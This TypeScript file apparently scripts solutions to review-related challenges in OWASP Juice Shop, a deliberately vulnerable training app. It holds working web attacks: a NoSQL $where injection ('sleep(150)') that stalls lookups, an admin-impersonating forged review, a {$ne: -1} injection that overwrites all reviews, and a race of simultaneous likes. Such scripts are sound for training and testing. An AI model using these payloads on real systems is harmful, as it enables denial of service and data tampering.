import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { authorised, expectStatus, registerAndLogIn } from '../../testing/attack-steps'

/** `$where` runs the product id as JavaScript: sleeping 150 ms per review makes the lookup take seconds. */
export const SLEEPING_PRODUCT_ID = 'sleep(150)'
/** How many likes one customer sends at once: the check runs before any of them is recorded. */
export const SIMULTANEOUS_LIKES = 4

/** The reviews of a product, with their ids, as the product dialog loads them. */
export async function reviewsOf(target: AttackTarget, productId: number): Promise<{ _id: string; author: string; message: string }[]> {
  return expectStatus(await request(target).get(`/rest/products/${productId}/reviews`), 200).body.data
}

export const reviewsAttacks = {
  noSqlCommandChallenge: (target) => request(target).get(`/rest/products/${SLEEPING_PRODUCT_ID}/reviews`),
  // the API takes the author from the body, not from the session
  forgedReviewChallenge: async (target) => {
    const session = await registerAndLogIn(target)
    return expectStatus(await authorised(target, session).put('/rest/products/1/reviews').send({ message: 'Best shop ever, says the admin', author: 'admin@juice-sh.op' }), 201)
  },
  // the edit's id goes into the selector as sent, and the update applies to every match
  noSqlReviewsChallenge: async (target) => {
    const session = await registerAndLogIn(target)
    return expectStatus(await authorised(target, session).patch('/rest/products/reviews').send({ id: { $ne: -1 }, message: 'NoSQL Injection!' }), 200)
  },
  timingAttackChallenge: async (target) => {
    const session = await registerAndLogIn(target)
    const [review] = await reviewsOf(target, 1)
    if (!review) throw new Error('the first product has no review to like')
    const like = () => authorised(target, session).post('/rest/products/reviews').send({ id: review._id }).then((response) => response)
    return Promise.all(Array.from({ length: SIMULTANEOUS_LIKES }, like))
  },
} satisfies Attacks
